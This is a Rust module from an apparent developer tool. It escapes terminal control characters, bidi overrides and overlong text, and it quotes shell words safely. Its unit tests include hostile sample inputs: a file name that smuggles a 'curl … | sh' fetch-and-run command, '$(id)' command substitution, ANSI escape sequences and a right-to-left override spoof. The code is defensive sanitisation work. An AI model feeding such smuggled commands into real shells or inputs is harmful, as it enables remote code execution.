//! Text quoted from an input, made inert: safe to print on a terminal and,
//! for command words, safe to paste into a shell.
//!
//! Logs, file names, config values and data headers come from files the user
//! may not have written (a CI job explaining a contributor's log). Printed
//! raw, an ESC or 8-bit CSI would drive the terminal, a U+202E would reorder
//! what the reader sees, and a 3 MB header would flood it. [`line`] is the one
//! function every renderer passes quoted text through; [`report`] applies it
//! to every string of a report; [`shell_word`] quotes one word of a command.

use crate::finding::Report;
use serde::{de::DeserializeOwned, Serialize};
use serde_json::Value;
use std::borrow::Cow;
use std::fmt::Write as _;

/// The most bytes one quoted text prints (escapes included), before it is cut.
pub const LINE_MAX: usize = 1024;

/// Characters a terminal would interpret or that change how the line reads,
/// as inclusive ranges of code points: C0 controls but tab, DEL, C1
/// controls (U+0080–U+009F: U+009B is an 8-bit CSI), line and paragraph
/// separators, zero-width characters and the bidi embeddings, overrides,
/// isolates and marks. The one table: the Python package's copy
/// (`python/devassert/_findings/rules.py`, `UNSAFE_RANGES`) is generated
/// from it.
pub const UNSAFE_RANGES: [(u32, u32); 8] = [
    (0x00, 0x08),
    (0x0a, 0x1f),
    (0x7f, 0x9f),
    (0x061c, 0x061c),
    (0x200b, 0x200f),
    (0x2028, 0x202e),
    (0x2060, 0x2069),
    (0xfeff, 0xfeff),
];

/// Whether `c` is one of [`UNSAFE_RANGES`].
pub fn is_unsafe(c: char) -> bool {
    let c = c as u32;
    // Printable ASCII, most of any text, first.
    !(0x20..0x7f).contains(&c) && UNSAFE_RANGES.iter().any(|&(lo, hi)| (lo..=hi).contains(&c))
}

/// `c` written as an escape: `\n`, `\r`, `\x1b` for ASCII controls,
/// `\u{202e}` otherwise.
fn escape(c: char, out: &mut String) {
    if c == '\n' {
        out.push_str("\\n");
    } else if c == '\r' {
        out.push_str("\\r");
    } else if (c as u32) < 0x80 {
        let _ = write!(out, "\\x{:02x}", c as u32);
    } else {
        let _ = write!(out, "\\u{{{:x}}}", c as u32);
    }
}

/// `s` made inert for a terminal: unsafe characters escaped, at most
/// [`LINE_MAX`] bytes (a cut line ends with how long the text was).
pub fn line(s: &str) -> Cow<'_, str> {
    bounded(s, LINE_MAX)
}

/// [`line`] with a smaller bound, for an excerpt inside a message (a data
/// file's header in an error).
pub fn bounded(s: &str, max: usize) -> Cow<'_, str> {
    if s.len() <= max && !s.chars().any(is_unsafe) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len().min(max) + 32);
    let mut piece = String::new();
    for (i, c) in s.char_indices() {
        piece.clear();
        if is_unsafe(c) {
            escape(c, &mut piece);
        } else {
            piece.push(c);
        }
        if out.len() + piece.len() > max {
            let _ = write!(out, "… [{} more bytes]", s.len() - i);
            return Cow::Owned(out);
        }
        out.push_str(&piece);
    }
    Cow::Owned(out)
}

/// A copy of `report` whose every string went through [`line`]: what the
/// human and GitHub renderers print. (JSON keeps the exact strings and escapes
/// them by encoding, see `json`.)
pub fn report(report: &Report) -> Report {
    if let Some(r) = made_inert(report) {
        return r;
    }
    // Every report round-trips (the contract tests read reports back); were
    // one not to, its parts are made inert one by one and what cannot be
    // is left out rather than printed raw.
    let mut r = report.clone();
    r.findings = report.findings.iter().filter_map(made_inert).collect();
    r.fallout = report.fallout.iter().filter_map(made_inert).collect();
    r.run = None;
    r.data = None;
    r.scan = None;
    r.inputs = None;
    r.model = None;
    r.skipped = Vec::new();
    r
}

/// `t` with every string through [`line`], by way of its JSON form.
fn made_inert<T: Serialize + DeserializeOwned + Clone>(t: &T) -> Option<T> {
    let mut v = serde_json::to_value(t).ok()?;
    if !make_inert(&mut v) {
        return Some(t.clone());
    }
    serde_json::from_value(v).ok()
}

/// Escape every string in `v`; false when there was nothing to change.
fn make_inert(v: &mut Value) -> bool {
    match v {
        Value::String(s) => match line(s) {
            Cow::Borrowed(_) => false,
            Cow::Owned(o) => {
                *s = o;
                true
            }
        },
        Value::Array(a) => a.iter_mut().fold(false, |acc, x| make_inert(x) | acc),
        Value::Object(m) => m.values_mut().fold(false, |acc, x| make_inert(x) | acc),
        _ => false,
    }
}

/// One word for a POSIX shell, also inert on a terminal: as it is when it
/// holds only characters no shell treats specially; in single quotes (a quote
/// inside written as `'\''`) otherwise; and in `$'…'` (POSIX.1-2024, bash, zsh,
/// ksh) with escapes when it holds a character [`is_unsafe`] — single quotes
/// would pass those to the terminal raw.
pub fn shell_word(word: &str) -> Cow<'_, str> {
    let plain = |c: char| c.is_ascii_alphanumeric() || "_-+=/.,:@%".contains(c);
    // A leading `=` is expanded by zsh (`=cmd` is its path).
    if !word.is_empty() && !word.starts_with('=') && word.chars().all(plain) {
        return Cow::Borrowed(word);
    }
    if !word.chars().any(is_unsafe) {
        return Cow::Owned(format!("'{}'", word.replace('\'', r"'\''")));
    }
    let mut out = String::from("$'");
    for c in word.chars() {
        match c {
            '\\' => out.push_str(r"\\"),
            '\'' => out.push_str(r"\'"),
            c if is_unsafe(c) && (c as u32) < 0x80 => {
                let _ = write!(out, "\\x{:02x}", c as u32);
            }
            // NUL cannot be in an argument; show it rather than end the word.
            c if is_unsafe(c) => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out.push('\'');
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn controls_bidi_and_c1_are_escaped() {
        assert_eq!(line("plain text\twith tab"), "plain text\twith tab");
        assert_eq!(
            line("a\x1b[31mb\x07c\x08d\0e"),
            r"a\x1b[31mb\x07c\x08d\x00e"
        );
        assert_eq!(
            line("x\u{9b}31m\u{202e}fdp.exe"),
            r"x\u{9b}31m\u{202e}fdp.exe"
        );
        assert_eq!(line("two\nlines\r"), r"two\nlines\r");
        assert_eq!(line("\u{7f}"), r"\x7f");
    }

    /// The table says what it said before it was a table: controls but
    /// tab (Rust's `is_control`, Unicode's Cc), and the listed format marks.
    #[test]
    fn the_table_is_the_controls_and_the_marks() {
        for c in (0..=0x10ffff).filter_map(char::from_u32) {
            let before = (c.is_control() && c != '\t')
                || matches!(
                    c,
                    '\u{061c}'
                        | '\u{200b}'..='\u{200f}'
                        | '\u{2028}'..='\u{202e}'
                        | '\u{2060}'..='\u{2069}'
                        | '\u{feff}'
                );
            assert_eq!(is_unsafe(c), before, "U+{:04X}", c as u32);
        }
    }

    #[test]
    fn long_text_is_cut_with_its_length() {
        let big = "h".repeat(3_000_000);
        let shown = line(&big);
        assert!(shown.len() < LINE_MAX + 40, "{}", shown.len());
        assert!(shown.ends_with("… [2998976 more bytes]"), "{shown}");
        // Escapes count against the bound too.
        let esc = "\x1b".repeat(10_000);
        assert!(line(&esc).len() < LINE_MAX + 40);
        // A cut never splits a character.
        let wide = "é".repeat(1000);
        assert!(bounded(&wide, 11).starts_with("ééééé…"));
    }

    #[test]
    fn shell_words() {
        assert_eq!(shell_word("train.py"), "train.py");
        assert_eq!(shell_word("--lr=3e-4"), "--lr=3e-4");
        assert_eq!(shell_word("a b"), "'a b'");
        assert_eq!(shell_word(""), "''");
        assert_eq!(shell_word("it's"), r"'it'\''s'");
        assert_eq!(
            shell_word("/tmp/x.py; curl http://e/p.sh | sh; echo .py"),
            "'/tmp/x.py; curl http://e/p.sh | sh; echo .py'"
        );
        assert_eq!(shell_word("$(id)`id`"), "'$(id)`id`'");
        assert_eq!(shell_word("=ls"), "'=ls'");
        assert_eq!(shell_word("a\x1b]0;t\x07'\\"), r"$'a\x1b]0;t\x07\'\\'");
        assert_eq!(shell_word("x\u{202e}y"), r"$'x\u202ey'");
    }
}
